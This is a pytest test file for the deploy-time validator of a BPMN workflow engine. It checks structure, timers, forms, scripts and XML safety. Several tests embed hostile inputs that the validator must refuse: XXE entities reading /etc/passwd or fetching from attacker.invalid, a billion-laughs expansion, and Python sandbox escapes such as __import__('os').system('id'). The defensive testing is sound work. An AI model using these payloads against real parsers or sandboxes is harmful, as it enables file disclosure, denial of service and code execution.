"""Deploy-time validation: each problem found, with the right code, element id and XML line, all at once."""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from SpiffWorkflow.bpmn.specs.bpmn_process_spec import BpmnProcessSpec

from engine.definitions.validation import ParsedDefinition, Problem, check, parse_definition
from engine.definitions.xmlsafe import MAX_XML_BYTES, XmlForbidden, line_of, parse_xml
from engine.errors import DefinitionInvalid

FIXTURES = Path(__file__).parent / "fixtures"
MALFORMED = FIXTURES / "malformed"

HEAD = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" '
    'xmlns:camunda="http://camunda.org/schema/1.0/bpmn" id="D" targetNamespace="http://emflow.example/bpmn">\n'
)


def doc(body: str, pid: str = "P", extra: str = "") -> bytes:
    """A one-process document; the process element is on line 3, the body starts on line 4."""
    return (
        HEAD + f'<bpmn:process id="{pid}" isExecutable="true">\n{body}\n</bpmn:process>\n{extra}</bpmn:definitions>\n'
    ).encode()


def linear_body(middle: str, middle_id: str = "T") -> str:
    return (
        '<bpmn:startEvent id="S"><bpmn:outgoing>f1</bpmn:outgoing></bpmn:startEvent>\n'
        f"{middle}\n"
        '<bpmn:endEvent id="E"><bpmn:incoming>f2</bpmn:incoming></bpmn:endEvent>\n'
        f'<bpmn:sequenceFlow id="f1" sourceRef="S" targetRef="{middle_id}" />\n'
        f'<bpmn:sequenceFlow id="f2" sourceRef="{middle_id}" targetRef="E" />'
    )


def linear(middle: str, middle_id: str = "T") -> bytes:
    """start -> <middle element> -> end, with the middle element on line 5."""
    return doc(linear_body(middle, middle_id))


SUB_PROCESS = (
    '<bpmn:subProcess id="T"><bpmn:startEvent id="SS" /><bpmn:userTask id="Inner" />'
    '<bpmn:endEvent id="SE" /><bpmn:sequenceFlow id="s1" sourceRef="SS" targetRef="Inner" />'
    '<bpmn:sequenceFlow id="s2" sourceRef="Inner" targetRef="SE" /></bpmn:subProcess>'
)


def timer(kind: str, text: str) -> bytes:
    return linear(
        f'<bpmn:intermediateCatchEvent id="T"><bpmn:timerEventDefinition><bpmn:{kind}>{text}'
        f"</bpmn:{kind}></bpmn:timerEventDefinition></bpmn:intermediateCatchEvent>"
    )


def script(text: str, attrs: str = "") -> bytes:
    return linear(f'<bpmn:scriptTask id="T"{attrs}><bpmn:script>{text}</bpmn:script></bpmn:scriptTask>')


def user_task(fields: str) -> bytes:
    return linear(
        '<bpmn:userTask id="T" camunda:formKey="f"><bpmn:extensionElements><camunda:formData>\n'
        f"{fields}\n</camunda:formData></bpmn:extensionElements></bpmn:userTask>"
    )


def codes(problems: list[Problem]) -> set[str]:
    return {p.code for p in problems}


def only(problems: list[Problem], code: str) -> Problem:
    found = [p for p in problems if p.code == code]
    assert len(found) == 1, problems
    return found[0]


# ------------------------------------------------------------------------------- the probes' malformed files


@pytest.mark.parametrize(
    ("name", "code", "element_id", "line"),
    [
        ("bad_condition_syntax", "condition_syntax", "f2", 7),
        ("bad_timer_duration", "timer_expression", "T", 5),
        ("flow_to_missing_target", "flow_target_missing", "f3", 8),
        ("gateway_flow_without_condition___not_def", "missing_condition", "f2", 7),
        ("isExecutable__false___bpmn_io_default_", "no_executable_process", "P", 3),
        ("missing_start_event", "missing_start_event", "P", 3),
        ("not_XML", "xml_syntax", None, 1),
        ("script_runtime_error__line_3_", "division_by_zero", "Scr", 7),
        ("script_syntax_error__line_2_", "script_syntax", "Scr", 6),
        ("truncated_XML", "xml_syntax", None, 10),
        ("unknown_element__reachable", "unknown_element", "E1", 9),
        ("unknown_element__unreachable", "unknown_element", "Orphan", 10),
        ("unsupported_BPMN_element__complexGateway", "unsupported_element", "E1", 9),
    ],
)
def test_malformed_probe_gets_the_right_problem(name: str, code: str, element_id: str | None, line: int) -> None:
    problems = check((MALFORMED / f"{name}.bpmn").read_bytes())
    problem = only(problems, code)
    assert (problem.element_id, problem.line, problem.severity) == (element_id, line, "error")
    assert problem.message


def test_condition_reading_a_variable_nothing_sets_is_a_warning_not_an_error() -> None:
    """The variable may come with the start command, so deploying is allowed; the administrator is told."""
    xml = (MALFORMED / "condition_uses_undefined_name.bpmn").read_bytes()
    assert check(xml) == []
    warning = only(check(xml, include_warnings=True), "undefined_name")
    assert (warning.element_id, warning.line, warning.severity) == ("f2", 7, "warning")
    assert "'severity'" in warning.message
    assert parse_definition(xml).warnings == (warning,)


def test_every_malformed_probe_gets_at_least_one_problem() -> None:
    files = sorted(MALFORMED.glob("*.bpmn"))
    assert len(files) == 14
    for path in files:
        assert check(path.read_bytes(), include_warnings=True), path.name


def test_not_executable_message_explains_the_modeler_default() -> None:
    problem = only(
        check((MALFORMED / "isExecutable__false___bpmn_io_default_.bpmn").read_bytes()), "no_executable_process"
    )
    assert 'isExecutable="false"' in problem.message and "bpmn.io" in problem.message


def test_executable_process_without_id_is_refused() -> None:
    """It used to validate, and deploying it failed on the definition key (reported as a concurrent deploy)."""
    xml = doc(linear_body('<bpmn:task id="T"><bpmn:incoming>f1</bpmn:incoming></bpmn:task>')).replace(
        b'<bpmn:process id="P" ', b"<bpmn:process "
    )
    problem = only(check(xml), "process_without_id")
    assert (problem.line, problem.severity) == (3, "error")
    with pytest.raises(DefinitionInvalid):
        parse_definition(xml)


# ------------------------------------------------------------------------------------- the valid probes


@pytest.mark.parametrize(
    ("name", "key"),
    [
        ("linear10", "Linear10"),
        ("loop", "StatusLoop"),
        ("loop_engine_only", "StatusLoop"),
        ("timers_quoted", "Ack"),
        ("timers_cycle", "Ack"),
        ("service_task", "Svc"),
        ("triage_sub", "TriageSub"),
    ],
)
def test_valid_probes_deploy(name: str, key: str) -> None:
    xml = (FIXTURES / f"{name}.bpmn").read_bytes()
    assert check(xml) == []
    parsed = parse_definition(xml)
    assert parsed.key == key
    assert isinstance(parsed.spec, BpmnProcessSpec)


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        # Two executable pools: emflow runs one process per document.
        ("incident_collab", {"multiple_executable_processes"}),
        # Calls a process from another file, and uses standard loopDataInputRef which CamundaParser ignores.
        ("events", {"call_target_missing", "multi_instance"}),
        ("timers_unquoted", {"timer_expression"}),
        ("business_rule", {"unsupported_element"}),
        ("script_injection", {"forbidden_expression"}),
        ("subclass_escape", {"forbidden_expression"}),
    ],
)
def test_probes_refused_for_documented_reasons(name: str, expected: set[str]) -> None:
    assert codes(check((FIXTURES / f"{name}.bpmn").read_bytes())) == expected


def test_collaboration_with_one_executable_pool_deploys_with_lane_ids() -> None:
    xml = (
        (FIXTURES / "incident_collab.bpmn")
        .read_bytes()
        .replace(
            b'id="Hospital" name="Hospital intake" isExecutable="true"',
            b'id="Hospital" name="Hospital intake" isExecutable="false"',
        )
    )
    parsed = parse_definition(xml)
    assert (parsed.key, parsed.name) == ("Incident", "Incident Handling")
    assert parsed.lanes["DispatchUnit"] == ("Lane_Responder", "Responder")
    assert parsed.lanes["Triage"] == ("Lane_Dispatcher", "Dispatcher")
    assert parsed.spec.task_specs["DispatchUnit"].lane == "Responder"  # SpiffWorkflow only knows the name
    assert [w.code for w in parsed.warnings] == ["undefined_name"]  # 'trapped' is never set in the diagram


def test_unquoted_timers_are_refused_with_the_quoted_suggestion() -> None:
    problems = check((FIXTURES / "timers_unquoted.bpmn").read_bytes())
    assert [(p.element_id, p.line) for p in problems] == [("T_escalate", 9), ("T_remind", 15)]
    assert '"PT1H"' in problems[0].message and '"PT10M"' in problems[1].message


def test_hostile_probes_are_refused_naming_element_and_line() -> None:
    problems = check((FIXTURES / "script_injection.bpmn").read_bytes())
    assert [(p.code, p.element_id, p.line) for p in problems] == [
        ("forbidden_expression", "EvilScript", 7),
        ("forbidden_expression", "f3", 11),
    ]
    assert all("__import__" in p.message for p in problems)
    escape = only(check((FIXTURES / "subclass_escape.bpmn").read_bytes()), "forbidden_expression")
    assert (escape.element_id, escape.line) == ("Esc", 7)


# ------------------------------------------------------------------------------------------ XML safety


def test_xxe_file_read_is_refused_and_the_file_never_appears(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-7f3a")
    xml = (
        f'<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY x SYSTEM "file://{secret}">]>\n'
        '<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="D">'
        '<bpmn:process id="P" isExecutable="true"><bpmn:documentation>&x;</bpmn:documentation>'
        "</bpmn:process></bpmn:definitions>"
    ).encode()
    problems = check(xml, include_warnings=True)
    assert [(p.code, p.line) for p in problems] == [("xml_forbidden", 2)]
    with pytest.raises(DefinitionInvalid) as refused:
        parse_definition(xml)
    everything = repr(problems) + str(refused.value) + repr(refused.value.details)
    assert "TOP-SECRET" not in everything


def test_xxe_etc_passwd_and_parameter_entities_are_refused() -> None:
    for dtd in (
        '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.invalid/x.dtd"> %p;]>',
        '<!DOCTYPE r SYSTEM "http://attacker.invalid/x.dtd">',
    ):
        xml = f'<?xml version="1.0"?>\n<!-- harmless -->\n{dtd}<r>&x;</r>'.encode()
        problems = check(xml)
        assert codes(problems) == {"xml_forbidden"}
        assert "root:" not in repr(problems)


def test_entity_reference_without_a_dtd_is_refused() -> None:
    assert codes(check(doc("<bpmn:documentation>&nbsp;</bpmn:documentation>"))) == {"xml_forbidden"}


def test_bare_ampersand_is_a_syntax_error_with_a_hint() -> None:
    xml = (MALFORMED / "bad_condition_syntax.bpmn").read_bytes().replace(b"x &gt;&gt;= 1", b"x > 1 && y")
    problem = only(check(xml), "xml_syntax")
    assert problem.line == 7 and "&amp;" in problem.message


def test_billion_laughs_is_refused_quickly() -> None:
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">' for i in range(1, 10)
    )
    xml = f'<?xml version="1.0"?>\n<!DOCTYPE lolz [{entities}]>\n<lolz>&lol9;</lolz>'.encode()
    started = time.monotonic()
    problems = check(xml)
    assert time.monotonic() - started < 0.5
    assert codes(problems) == {"xml_forbidden"}


def test_parser_refuses_entities_even_past_the_prolog_check() -> None:
    # Defence in depth: parse_xml never expands an entity, whatever reaches lxml.
    with pytest.raises(XmlForbidden):
        parse_xml(b'<?xml version="1.0"?><r>&x;</r>')


def test_oversize_document_is_refused_before_parsing() -> None:
    xml = doc("<!--" + "x" * MAX_XML_BYTES + "-->")
    started = time.monotonic()
    problem = only(check(xml), "too_large")
    assert time.monotonic() - started < 0.5
    assert f"{MAX_XML_BYTES:,}" in problem.message


def test_non_utf8_documents_are_refused() -> None:
    gbk = doc('<bpmn:userTask id="U" name="记录" />').replace(b"UTF-8", b"GBK")
    assert codes(check(gbk)) == {"xml_encoding"}
    latin1 = doc('<bpmn:userTask id="U" name="cafe" />').replace(b"cafe", b"caf\xe9")
    assert codes(check(latin1)) == {"xml_encoding"}


def test_line_of_finds_elements_by_id() -> None:
    tree = parse_xml((MALFORMED / "bad_condition_syntax.bpmn").read_bytes())
    assert (line_of(tree, "G"), line_of(tree, "f3"), line_of(tree, "nope")) == (5, 8, None)


def test_not_a_bpmn_document() -> None:
    assert codes(check(b"<html><body/></html>")) == {"not_bpmn"}


# -------------------------------------------------------------------------------------------- structure


def test_all_problems_are_collected_at_once() -> None:
    xml = doc(
        '<bpmn:startEvent id="S"><bpmn:outgoing>f1</bpmn:outgoing></bpmn:startEvent>\n'
        '<bpmn:exclusiveGateway id="G" />\n'
        '<bpmn:scriptTask id="A"><bpmn:script>x = (</bpmn:script></bpmn:scriptTask>\n'
        '<bpmn:scriptTask id="B"><bpmn:script>x = __import__("os")</bpmn:script></bpmn:scriptTask>\n'
        '<bpmn:sequenceFlow id="f1" sourceRef="S" targetRef="G" />\n'
        '<bpmn:sequenceFlow id="f2" sourceRef="G" targetRef="A" />\n'
        '<bpmn:sequenceFlow id="f3" sourceRef="G" targetRef="B" />\n'
        '<bpmn:sequenceFlow id="f4" sourceRef="G" targetRef="Gone" />'
    )
    found = [(p.code, p.element_id, p.line) for p in check(xml)]
    assert found == [
        ("script_syntax", "A", 6),
        ("forbidden_expression", "B", 7),
        ("missing_condition", "f2", 9),
        ("missing_condition", "f3", 10),
        ("flow_target_missing", "f4", 11),
        ("missing_condition", "f4", 11),
    ]


def test_more_than_one_outgoing_flow_from_a_task() -> None:
    xml = doc(
        '<bpmn:startEvent id="S" />\n<bpmn:userTask id="U" />\n'
        '<bpmn:endEvent id="E1" />\n<bpmn:endEvent id="E2" />\n'
        '<bpmn:sequenceFlow id="f0" sourceRef="S" targetRef="U" />\n'
        '<bpmn:sequenceFlow id="f1" sourceRef="U" targetRef="E1" />\n'
        '<bpmn:sequenceFlow id="f2" sourceRef="U" targetRef="E2" />'
    )
    problem = only(check(xml), "multiple_outgoing")
    assert (problem.element_id, problem.line) == ("U", 5)


def test_gateway_default_must_be_one_of_its_flows() -> None:
    xml = (MALFORMED / "bad_condition_syntax.bpmn").read_bytes().replace(b'default="f3"', b'default="f9"')
    assert {"invalid_default", "missing_condition"} <= codes(check(xml))


def test_duplicate_ids_are_reported() -> None:
    xml = linear('<bpmn:userTask id="T" />\n<bpmn:userTask id="T" />')
    problem = only(check(xml), "duplicate_id")
    assert (problem.element_id, problem.line) == ("T", 6)


def test_flow_crossing_into_a_sub_process_is_refused() -> None:
    xml = doc(
        '<bpmn:startEvent id="S" />\n'
        '<bpmn:subProcess id="Sub"><bpmn:startEvent id="SS" /><bpmn:userTask id="Inner" />'
        '<bpmn:endEvent id="SE" /><bpmn:sequenceFlow id="s1" sourceRef="SS" targetRef="Inner" />'
        '<bpmn:sequenceFlow id="s2" sourceRef="Inner" targetRef="SE" /></bpmn:subProcess>\n'
        '<bpmn:sequenceFlow id="f1" sourceRef="S" targetRef="Inner" />'
    )
    problem = only(check(xml), "flow_target_missing")
    assert problem.element_id == "f1" and "cannot cross" in problem.message


def test_sub_process_needs_one_start_and_an_end() -> None:
    xml = linear('<bpmn:subProcess id="T"><bpmn:userTask id="Inner" /></bpmn:subProcess>')
    assert {"missing_start_event", "missing_end_event"} <= codes(check(xml))


def test_call_activity_inside_the_document_deploys_with_its_subprocess_spec() -> None:
    called = (
        '<bpmn:process id="Sub" isExecutable="true"><bpmn:startEvent id="SS" />'
        '<bpmn:endEvent id="SE" /><bpmn:sequenceFlow id="s1" sourceRef="SS" targetRef="SE" />'
        "</bpmn:process>\n"
    )
    xml = doc(linear_body('<bpmn:callActivity id="T" calledElement="Sub" />'), extra=called)
    parsed = parse_definition(xml)
    assert parsed.key == "P"
    assert set(parsed.subprocess_specs) == {"Sub"}


def test_lanes_map_nested_lanes_and_sub_process_contents() -> None:
    xml = doc(
        '<bpmn:laneSet id="LS"><bpmn:lane id="L_office" name="应急办"><bpmn:flowNodeRef>S</bpmn:flowNodeRef>'
        "<bpmn:flowNodeRef>T</bpmn:flowNodeRef><bpmn:flowNodeRef>E</bpmn:flowNodeRef>"
        '<bpmn:childLaneSet id="CLS"><bpmn:lane id="L_leader" name="带班领导">'
        "<bpmn:flowNodeRef>T</bpmn:flowNodeRef></bpmn:lane></bpmn:childLaneSet></bpmn:lane></bpmn:laneSet>\n"
        + linear_body(SUB_PROCESS)
    )
    parsed = parse_definition(xml)
    assert parsed.lanes["S"] == ("L_office", "应急办")
    assert parsed.lanes["T"] == ("L_leader", "带班领导")  # the innermost lane wins
    assert parsed.lanes["Inner"] == ("L_leader", "带班领导")  # sub-process contents inherit it


def test_parsed_definition_carries_name_and_documentation() -> None:
    xml = doc('<bpmn:documentation>突发环境事件 处置流程</bpmn:documentation>\n<bpmn:startEvent id="S" />').replace(
        b'id="P"', 'id="P" name="处置"'.encode()
    )
    parsed = parse_definition(xml)
    assert isinstance(parsed, ParsedDefinition)
    assert (parsed.key, parsed.name, parsed.documentation) == ("P", "处置", "突发环境事件 处置流程")


def test_parse_definition_raises_with_every_problem() -> None:
    with pytest.raises(DefinitionInvalid) as refused:
        parse_definition((FIXTURES / "timers_unquoted.bpmn").read_bytes())
    assert refused.value.code == "invalid_definition"
    assert [p.element_id for p in refused.value.problems] == ["T_escalate", "T_remind"]
    assert refused.value.problems[0].to_dict()["line"] == 9


def test_validate_false_still_parses_safely_and_runs_spiffworkflow() -> None:
    xml = user_task('<camunda:formField id="level" type="long" defaultValue="high" />')
    assert codes(check(xml)) == {"form_field"}
    assert parse_definition(xml, validate=False).key == "P"
    with pytest.raises(DefinitionInvalid):
        parse_definition(b"<!DOCTYPE x><x/>", validate=False)


def test_service_tasks_and_host_functions() -> None:
    xml = script("result = notify_leader(level)")
    assert codes(check(xml)) == {"forbidden_expression"}
    assert check(xml, functions={"notify_leader"}) == []


# ------------------------------------------------------------------------------------------------ code


@pytest.mark.parametrize(
    ("body", "code"),
    [
        ("${severity &gt;= 3}", "condition_syntax"),
        ("severity &gt;", "condition_syntax"),
        ("__import__('os').system('id') == 0", "forbidden_expression"),
        ("().__class__.__base__.__subclasses__()", "forbidden_expression"),
    ],
)
def test_conditions_are_checked(body: str, code: str) -> None:
    xml = (MALFORMED / "bad_condition_syntax.bpmn").read_bytes().replace(b"x &gt;&gt;= 1", body.encode())
    problem = only(check(xml), code)
    assert (problem.element_id, problem.line) == ("f2", 7)


def test_juel_condition_gets_a_python_hint() -> None:
    xml = (MALFORMED / "bad_condition_syntax.bpmn").read_bytes().replace(b"x &gt;&gt;= 1", b"${x &gt; 1}")
    assert "plain Python" in only(check(xml), "condition_syntax").message


def test_multi_line_script_problem_points_at_its_xml_line() -> None:
    problem = only(check(script("a = 1\nb = 2\nc = ().__class__\nd = 4")), "forbidden_expression")
    assert (problem.element_id, problem.line) == ("T", 7)


def test_indented_script_is_fine() -> None:
    assert check(script("\n        a = 1\n        if a:\n            b = a + 1\n    ")) == []


def test_empty_and_non_python_scripts() -> None:
    assert only(check(script("")), "script_syntax").element_id == "T"
    javascript = script("x = 1", ' scriptFormat="javascript"')
    assert only(check(javascript), "unsupported_language").element_id == "T"
    assert check(script("x = 1", ' scriptFormat="python"')) == []


def test_huge_constants_are_refused_at_deploy() -> None:
    problem = only(check(script("pad = 'a' * 10**9")), "forbidden_expression")
    assert "exceeds" in problem.message


def test_other_expressions_go_through_the_sandbox() -> None:
    conditional = linear(
        '<bpmn:intermediateCatchEvent id="T"><bpmn:conditionalEventDefinition>'
        "<bpmn:condition>__import__('os')</bpmn:condition></bpmn:conditionalEventDefinition>"
        "</bpmn:intermediateCatchEvent>"
    )
    assert only(check(conditional), "forbidden_expression").element_id == "T"
    cardinality = linear(
        '<bpmn:userTask id="T"><bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality>'
        "len(().__class__.__subclasses__())</bpmn:loopCardinality>"
        "</bpmn:multiInstanceLoopCharacteristics></bpmn:userTask>"
    )
    assert only(check(cardinality), "forbidden_expression").element_id == "T"
    payload = linear(
        '<bpmn:intermediateThrowEvent id="T"><bpmn:messageEventDefinition messageRef="M" '
        "camunda:expression=\"__import__('os')\" /></bpmn:intermediateThrowEvent>"
    ).replace(b"</bpmn:definitions>", b'<bpmn:message id="M" name="m" /></bpmn:definitions>')
    assert only(check(payload), "forbidden_expression").element_id == "T"


# ---------------------------------------------------------------------------------------------- timers


@pytest.mark.parametrize(
    ("kind", "text"),
    [
        ("timeDuration", '"PT1H"'),
        ("timeDuration", "'P1DT2H'"),
        ("timeDuration", ' "PT30M" '),
        ("timeCycle", '"R3/PT10M"'),
        ("timeDate", '"2030-06-01T08:00:00+08:00"'),
        ("timeDuration", '"PT1H" if severity &gt;= 3 else "PT4H"'),
    ],
)
def test_valid_timers(kind: str, text: str) -> None:
    assert check(timer(kind, text)) == []


@pytest.mark.parametrize(
    ("kind", "text", "fragment"),
    [
        ("timeDuration", "PT1H", 'write "PT1H"'),
        ("timeDuration", "P1D", 'write "P1D"'),
        ("timeDuration", "PT1X", 'write "PT1X"'),
        ("timeCycle", "R3/PT10M", 'write "R3/PT10M"'),
        ("timeDate", "2030-06-01T08:00:00", 'write "2030-06-01T08:00:00"'),
        ("timeDuration", '"PT1X"', "ISO 8601 duration"),
        ("timeDuration", '"P"', "empty duration"),
        ("timeDuration", "3600", "must be an ISO 8601 string"),
        ("timeDate", '"PT1H"', "for a delay use timeDuration"),
        ("timeCycle", '"every hour"', "repeating interval"),
        ("timeDuration", "", "empty"),
        ("timeDuration", "in one hour", "neither a quoted ISO 8601 value"),
        ("timeDuration", '"PT1H" if severity &gt;= 3 else "PT4X"', "'PT4X'"),
        ("timeDuration", "__import__('os').system('id')", "sandbox"),
    ],
)
def test_invalid_timers(kind: str, text: str, fragment: str) -> None:
    problems = check(timer(kind, text))
    assert len(problems) == 1, problems
    problem = problems[0]
    assert problem.code in ("timer_expression", "forbidden_expression")
    assert (problem.element_id, problem.line) == ("T", 5)
    assert fragment in problem.message


def test_computed_timer_reading_a_variable_is_allowed() -> None:
    xml = timer("timeDuration", "response_deadline")
    assert check(xml) == []
    assert codes(check(xml, include_warnings=True)) == {"undefined_name"}


# ----------------------------------------------------------------------------------------------- forms


def test_valid_form_deploys() -> None:
    xml = user_task(
        '<camunda:formField id="severity" label="严重程度" type="long" defaultValue="3">'
        '<camunda:validation><camunda:constraint name="required" config="true" />'
        '<camunda:constraint name="min" config="1" /></camunda:validation></camunda:formField>\n'
        '<camunda:formField id="channel" type="enum" defaultValue="phone">'
        '<camunda:value id="phone" name="电话" /><camunda:value id="written" name="书面" />'
        "</camunda:formField>\n"
        '<camunda:formField id="heavy_metal" type="boolean" defaultValue="false" />\n'
        '<camunda:formField id="cod_mg_l" type="double" defaultValue="12.5" />\n'
        '<camunda:formField id="found_on" type="date" defaultValue="2024-06-01" />\n'
        '<camunda:formField id="note" type="string" defaultValue="待定" />\n'
        '<camunda:formField id="code" type="string" defaultValue="_draft_" />'
    )
    assert check(xml, include_warnings=True) == []


@pytest.mark.parametrize(
    ("fields", "fragment"),
    [
        ('<camunda:formField id="a" type="number" />', "has type 'number'"),
        ('<camunda:formField id="a" type="string" />\n<camunda:formField id="a" type="long" />', "defined twice"),
        ('<camunda:formField id="a" type="enum" />', "enum without values"),
        ('<camunda:formField id="a" type="long" defaultValue="high" />', "not an integer"),
        ('<camunda:formField id="a" type="boolean" defaultValue="yes" />', "true or false"),
        (
            '<camunda:formField id="a" type="enum" defaultValue="c"><camunda:value id="b" name="B" />'
            "</camunda:formField>",
            "one of b",
        ),
        ('<camunda:formField id="a" type="string" defaultValue="${initiator}" />', "Camunda expression"),
        (
            '<camunda:formField id="a" type="long"><camunda:validation>'
            '<camunda:constraint name="max" config="ten" /></camunda:validation></camunda:formField>',
            "needs a number",
        ),
        ('<camunda:formField type="string" />', "no id"),
    ],
)
def test_form_field_problems(fields: str, fragment: str) -> None:
    problem = only(check(user_task(fields)), "form_field")
    assert problem.element_id == "T"
    assert problem.line is not None and problem.line >= 6
    assert fragment in problem.message


def test_hostile_form_default_is_refused() -> None:
    xml = user_task('<camunda:formField id="a" type="string" defaultValue="__import__(\'os\').getcwd()" />')
    assert only(check(xml), "forbidden_expression").element_id == "T"


def test_lead_fixture_triage_deploys() -> None:
    root = Path(__file__).resolve().parent.parent / "fixtures" / "triage.bpmn"
    if not root.exists():
        pytest.skip("tests/fixtures/triage.bpmn is not there")
    parsed = parse_definition(root.read_bytes())
    assert parsed.lanes["Task_Escalate"] == ("leader", "带班领导")


# ------------------------------------------------------------------------------------ what is left over


def test_spiffworkflow_parse_errors_are_reported_with_element_and_line() -> None:
    xml = linear('<bpmn:userTask id="T"><bpmn:standardLoopCharacteristics /></bpmn:userTask>')
    problem = only(check(xml), "parse_error")
    assert (problem.element_id, problem.line) == ("T", 5)
    assert "loopMaximum or loopCondition" in problem.message


def test_boundary_event_without_definition_and_dangling_references() -> None:
    xml = linear(
        '<bpmn:userTask id="T" />\n<bpmn:boundaryEvent id="B" attachedToRef="Gone" />\n'
        '<bpmn:intermediateThrowEvent id="M"><bpmn:messageEventDefinition messageRef="Nope" />'
        "</bpmn:intermediateThrowEvent>"
    )
    found = {(p.code, p.element_id) for p in check(xml)}
    assert {("missing_event_definition", "B"), ("attached_to_missing", "B"), ("reference_missing", "M")} <= found


def test_warnings_for_what_the_engine_would_silently_ignore() -> None:
    xml = doc(
        '<bpmn:startEvent id="S" />\n<bpmn:userTask id="U"><bpmn:extensionElements>'
        '<camunda:taskListener event="create" /></bpmn:extensionElements></bpmn:userTask>\n'
        '<bpmn:endEvent id="E" />\n<bpmn:userTask id="Orphan" />\n'
        '<bpmn:sequenceFlow id="f1" sourceRef="S" targetRef="U" />\n'
        '<bpmn:sequenceFlow id="f2" sourceRef="U" targetRef="E">'
        "<bpmn:conditionExpression>x</bpmn:conditionExpression></bpmn:sequenceFlow>"
    )
    assert check(xml) == []
    warnings = {(p.code, p.element_id) for p in check(xml, include_warnings=True)}
    assert {("ignored_extension", "U"), ("unreachable_element", "Orphan"), ("ignored_condition", "f2")} <= warnings
    assert all(p.severity == "warning" for p in check(xml, include_warnings=True))


def test_check_never_raises_on_damaged_documents() -> None:
    data = (FIXTURES / "incident_collab.bpmn").read_bytes()
    for cut in range(0, len(data), 61):
        assert isinstance(check(data[:cut], include_warnings=True), list)
    lines = data.split(b"\n")
    for i in range(len(lines)):
        assert isinstance(check(b"\n".join(lines[:i] + lines[i + 1 :]), include_warnings=True), list)
